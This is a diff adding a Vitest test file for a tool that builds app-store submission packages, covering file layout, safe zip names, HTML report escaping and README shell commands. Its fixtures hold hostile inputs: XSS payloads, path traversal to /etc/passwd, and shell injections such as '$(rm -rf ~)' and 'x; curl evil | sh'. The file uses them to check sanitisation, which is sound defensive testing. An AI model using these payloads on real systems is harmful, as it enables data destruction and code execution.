@@ -1,0 +1,208 @@
+import { describe, expect, it } from 'vitest';
+import { androidBuild, iosBuild } from '@tests/support/build-fixtures/build-info';
+import { listing, submissionDraft } from '@tests/support/drafts';
+import { jsonOf, textOf } from '@tests/support/package-files';
+import type { Finding } from '../findings';
+import type { ReadinessReport } from '../submissions/readiness-report';
+import { packageFileName, submissionPackage, type PackageOptions } from './submission-package';
+
+const FINDING: Finding = {
+  id: 'listing.title',
+  severity: 'blocker',
+  area: 'listing',
+  store: 'ios',
+  field: 'title',
+  title: 'The name has 31 characters',
+  why: 'App Store Connect refuses it.',
+  fix: 'Shorten it to 30.',
+  ruleDate: '2026-04-28',
+  source: { label: 'Apple & co', url: 'https://developer.apple.com/help?a=1&b=2' },
+  where: 2,
+  locale: 'ja-JP',
+};
+const READY: ReadinessReport = {
+  findings: [],
+  counts: { blocker: 0, warning: 0, note: 0 },
+  verdict: 'ready',
+};
+
+function reportOf(...findings: Finding[]): ReadinessReport {
+  return { findings, counts: { blocker: findings.length, warning: 0, note: 0 }, verdict: 'blocked' };
+}
+
+function make(options: Partial<PackageOptions> = {}, draft = submissionDraft()) {
+  return submissionPackage(draft, { report: READY, exportDate: '2026-11-20', ...options });
+}
+
+function htmlOf(made: ReturnType<typeof make>): string {
+  return textOf(made, 'readiness.html') ?? '';
+}
+
+function readmeOf(made: ReturnType<typeof make>): string {
+  return textOf(made, 'README.md') ?? '';
+}
+
+describe('submissionPackage', () => {
+  it('holds the layouts, the report and the README, sorted, no path twice', () => {
+    const paths = make({ includeGradlePlay: true }).files.map((file) => file.path);
+    expect(paths).toEqual([...paths].sort());
+    expect(new Set(paths).size).toBe(paths.length);
+    for (const path of [
+      'README.md',
+      'eas.json',
+      'fastlane/metadata/android/en-US/title.txt',
+      'fastlane/metadata/en-US/name.txt',
+      'package.json',
+      'readiness.html',
+      'readiness.json',
+      'src/main/play/default-language.txt',
+      'store.config.json',
+    ]) {
+      expect(paths).toContain(path);
+    }
+  });
+
+  it.each([
+    ['both', undefined, false],
+    ['both', true, true],
+    ['android', true, true],
+    ['ios', true, false],
+  ] as const)(
+    'for %s with the gradle option %s has the gradle tree: %s',
+    (platform, includeGradlePlay, expected) => {
+      const made = make({ includeGradlePlay }, submissionDraft({ platform }));
+      expect(made.files.some((file) => file.path.startsWith('src/'))).toBe(expected);
+      expect(readmeOf(made).includes('gradlew')).toBe(expected);
+    },
+  );
+
+  it('makes the same files of the same input', () => {
+    expect(make()).toEqual(make());
+  });
+
+  it('says once in the README and the notes what was left out', () => {
+    const made = make(
+      {},
+      submissionDraft({ listings: { 'en-US': listing(), 'or-IN': listing(), af: listing() } }),
+    );
+    expect(made.notes).toEqual([
+      'Afrikaans: left out, the App Store does not offer this locale.',
+      'Odia (ଓଡ଼ିଆ): left out, Google Play does not offer this locale.',
+      'Odia (ଓଡ଼ିଆ): left out, EAS Metadata does not offer this locale.',
+    ]);
+    expect(textOf(made, 'README.md')).toContain('- Afrikaans: left out');
+  });
+});
+
+describe('packageFileName', () => {
+  it.each([
+    ['com.example.lantern', '1.4.0', 'com.example.lantern-1.4.0-2026-11-20.zip'],
+    ['com.example.my-app_2', '1.0+7', 'com.example.my-app_2-1.0_7-2026-11-20.zip'],
+    ['../../etc/passwd', '1', 'etc_passwd-1-2026-11-20.zip'],
+    ['C:\\Windows\\x', '..', 'C_Windows_x-0-2026-11-20.zip'],
+    ['', '', 'app-0-2026-11-20.zip'],
+    ['пример', '1', 'app-1-2026-11-20.zip'],
+    ['con.example', '1', 'app-con.example-1-2026-11-20.zip'],
+    ['CON', '1', 'app-CON-1-2026-11-20.zip'],
+    ['console.example', '1', 'console.example-1-2026-11-20.zip'],
+    ['a\u202Egpj.exe', '1', 'a_gpj.exe-1-2026-11-20.zip'],
+    ['-rf', '1', 'rf-1-2026-11-20.zip'],
+    ['a'.repeat(300), '1', `${'a'.repeat(155)}-1-2026-11-20.zip`],
+  ])('%j %j', (bundleId, version, expected) => {
+    expect(packageFileName(bundleId, version, '2026-11-20')).toBe(expected);
+  });
+});
+
+describe('readiness.html and readiness.json', () => {
+  it('show every part of a finding', () => {
+    const html = htmlOf(make({ report: reportOf(FINDING) }));
+    for (const part of [
+      'The name has 31 characters',
+      'App Store Connect refuses it.',
+      'Shorten it to 30.',
+      'Apple App Store',
+      'Japanese (日本語)',
+      'rule of 2026-04-28',
+      'step 2',
+      'Apple &amp; co',
+      'href="https://developer.apple.com/help?a=1&amp;b=2"',
+      'Blocked: the store would refuse it',
+    ]) {
+      expect(html).toContain(part);
+    }
+  });
+
+  it.each([
+    `<script>alert(1)</script>`,
+    `"><img src=x onerror=alert(1)>`,
+    `' onmouseover='alert(1)`,
+    `</title><script>`,
+    `</style><svg onload=alert(1)>`,
+  ])('escapes %s wherever it stands', (hostile) => {
+    const finding = {
+      ...FINDING,
+      title: hostile,
+      why: hostile,
+      fix: hostile,
+      field: hostile,
+      locale: hostile,
+    };
+    const source = { label: hostile, url: `javascript:alert(1)` };
+    const draft = submissionDraft({
+      bundleId: hostile,
+      version: hostile,
+      listings: { 'en-US': listing({ title: hostile }) },
+    });
+    const made = make({ report: reportOf({ ...finding, source }) }, draft);
+    const html = htmlOf(made);
+    const tags = html.match(/<\/?[a-z!][^\s>]*/gi) ?? [];
+    expect(new Set(tags.map((tag) => tag.replace(/^<\/?/, '')))).toEqual(
+      new Set('!doctype html head meta title style body h1 h2 h3 p section article strong'.split(' ')),
+    );
+    expect(html).not.toContain(hostile);
+    expect(html).not.toContain('javascript:');
+    expect(jsonOf(made, 'readiness.json')).toMatchObject({ bundleId: hostile, appName: hostile });
+  });
+
+  it('load nothing and run nothing', () => {
+    const html = htmlOf(make({ report: reportOf(FINDING) }));
+    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
+    expect(html).not.toMatch(/<(script|link|img|iframe|object)|url\(|@import/i);
+  });
+});
+
+describe('README.md', () => {
+  it.each([
+    ['both', ['app.ipa', 'app.aab', 'fastlane deliver', 'fastlane supply', 'metadata:push']],
+    ['ios', ['app.ipa', 'fastlane deliver', 'metadata:lint', 'metadata:push']],
+    ['android', ['app.aab', 'fastlane supply', 'eas-cli submit --platform android']],
+  ] as const)('for %s names the commands to type', (platform, parts) => {
+    const readme = readmeOf(make({}, submissionDraft({ platform })));
+    for (const part of parts) expect(readme).toContain(part);
+    expect(readme.includes('fastlane supply')).toBe(platform !== 'ios');
+    expect(readme.includes('fastlane deliver')).toBe(platform !== 'android');
+  });
+
+  it('names an APK where the build is one', () => {
+    const draft = submissionDraft({
+      builds: [iosBuild(), androidBuild({ kind: 'apk', fileName: 'app.apk' })],
+    });
+    expect(textOf(make({}, draft), 'README.md')).toContain('--apk app.apk');
+  });
+
+  it.each(['$(rm -rf ~)', '`id`', 'x; curl evil | sh', '--json_key=/etc/passwd', 'a\nrm -rf ~', 'a"b\'c'])(
+    'puts nothing into a command that a shell would run: %j',
+    (hostile) => {
+      const readme = readmeOf(make({}, submissionDraft({ bundleId: hostile, version: hostile })));
+      const commands = readme.match(/```sh\n[^`]*```/g) ?? [];
+      expect(commands.length).toBeGreaterThan(1);
+      for (const command of commands) expect(command.slice(6, -3)).toMatch(/^[A-Za-z0-9 ._+\-:/<>\n]*$/);
+      expect(readme).not.toContain('/etc/passwd');
+    },
+  );
+
+  it('shows a hostile file name as one line of text', () => {
+    const draft = submissionDraft({ builds: [iosBuild({ fileName: '](https://evil)\n# <b>`x`' })] });
+    expect(textOf(make({}, draft), 'README.md')).toContain('\\](https://evil) \\# \\<b\\>\\`x\\`');
+  });
+});
